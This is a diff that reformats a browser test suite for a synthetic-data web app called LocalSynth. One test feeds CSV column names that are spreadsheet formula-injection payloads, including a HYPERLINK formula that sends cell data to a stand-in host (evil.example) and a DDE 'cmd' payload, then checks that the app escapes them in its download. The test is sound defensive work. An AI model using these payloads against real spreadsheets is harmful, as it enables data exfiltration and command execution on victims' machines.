@@ -8,8 +8,24 @@ import { join } from 'node:path';
 import Papa from 'papaparse';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { downloadCsv, dropFile, generate, loadDemo, parseCsvText, selectGenerator, setField, waitIdle } from '../support/app-driver.js';
-import { browserSkipReason, openApp, TEST_DATA, startApp, type AppHarness, type GuardedContext } from '../support/browser.js';
+import {
+  downloadCsv,
+  dropFile,
+  generate,
+  loadDemo,
+  parseCsvText,
+  selectGenerator,
+  setField,
+  waitIdle,
+} from '../support/app-driver.js';
+import {
+  browserSkipReason,
+  openApp,
+  TEST_DATA,
+  startApp,
+  type AppHarness,
+  type GuardedContext,
+} from '../support/browser.js';
 
 const skip = browserSkipReason();
 
@@ -128,8 +144,16 @@ describe.skipIf(skip !== null)('LocalSynth web app (built, headless Chromium)', 
   it('column names a spreadsheet would run (=HYPERLINK, +cmd|, @SUM, -2+3) are escaped in the download, and read back', async () => {
     const g = await openApp(h);
     const page: Page = g.page;
-    const names = ['=HYPERLINK("http://evil.example/?d="&B2,"open")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', 'plain'];
-    const rows = Array.from({ length: 40 }, (_, i) => [(i * 7) % 23, i % 3 === 0 ? 'a' : 'b', ['x', 'y', 'z'][i % 3], ((i * 13) % 17) / 4, 20 + (i % 9)].join(','));
+    const names = [
+      '=HYPERLINK("http://evil.example/?d="&B2,"open")',
+      "+cmd|' /C calc'!A0",
+      '@SUM(A1:A9)',
+      '-2+3',
+      'plain',
+    ];
+    const rows = Array.from({ length: 40 }, (_, i) =>
+      [(i * 7) % 23, i % 3 === 0 ? 'a' : 'b', ['x', 'y', 'z'][i % 3], ((i * 13) % 17) / 4, 20 + (i % 9)].join(','),
+    );
     await dropFile(page, 'formulas.csv', [Papa.unparse([names]), ...rows].join('\n') + '\n');
     await expect.poll(() => page.getByTestId('shape').textContent()).toBe('40 rows × 5 columns');
     await selectGenerator(page, 'knnmtd');
@@ -144,7 +168,9 @@ describe.skipIf(skip !== null)('LocalSynth web app (built, headless Chromium)', 
     // and LocalSynth reads its own file back under the original names
     await dropFile(page, 'formulas.synthetic.csv', text);
     await expect.poll(() => page.getByTestId('shape').textContent()).toBe('25 rows × 5 columns');
-    expect(await page.locator('tr[data-column]').evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-column')))).toEqual(names);
+    expect(
+      await page.locator('tr[data-column]').evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-column'))),
+    ).toEqual(names);
     expectClean(g);
     await g.context.close();
   });
@@ -171,7 +197,9 @@ describe.skipIf(skip !== null)('LocalSynth web app (built, headless Chromium)', 
     const phaseInFrame = await page.evaluate(
       () =>
         new Promise<string>((r) =>
-          requestAnimationFrame(() => r((window as unknown as { __ls: { app: { run: { phase: string } } } }).__ls.app.run.phase)),
+          requestAnimationFrame(() =>
+            r((window as unknown as { __ls: { app: { run: { phase: string } } } }).__ls.app.run.phase),
+          ),
         ),
     );
     expect(phaseInFrame).toBe('generating');
@@ -197,7 +225,9 @@ describe.skipIf(skip !== null)('LocalSynth web app (built, headless Chromium)', 
     await selectGenerator(page, 'knnmtd');
     await page.getByRole('button', { name: 'Generate', exact: true }).click();
     await page.getByTestId('progress').waitFor();
-    await page.evaluate(() => (window as unknown as { __ls: { bridge: { simulateCrash(): void } } }).__ls.bridge.simulateCrash());
+    await page.evaluate(() =>
+      (window as unknown as { __ls: { bridge: { simulateCrash(): void } } }).__ls.bridge.simulateCrash(),
+    );
     await waitIdle(page, 10_000);
     const box = page.getByTestId('error');
     await expect.poll(() => box.locator('code').textContent()).toBe('WORKER_CRASHED');
@@ -210,7 +240,9 @@ describe.skipIf(skip !== null)('LocalSynth web app (built, headless Chromium)', 
     expect(await page.getByTestId('error').count()).toBe(0);
     expect(await page.getByTestId('result-rows').textContent()).toBe('90 rows × 148 columns');
     // the fresh worker was given the dataset again by the bridge
-    const started = await page.evaluate(() => (window as unknown as { __ls: { bridge: { workersStarted: number } } }).__ls.bridge.workersStarted);
+    const started = await page.evaluate(
+      () => (window as unknown as { __ls: { bridge: { workersStarted: number } } }).__ls.bridge.workersStarted,
+    );
     expect(started).toBe(2);
     expectClean(g);
     await g.context.close();
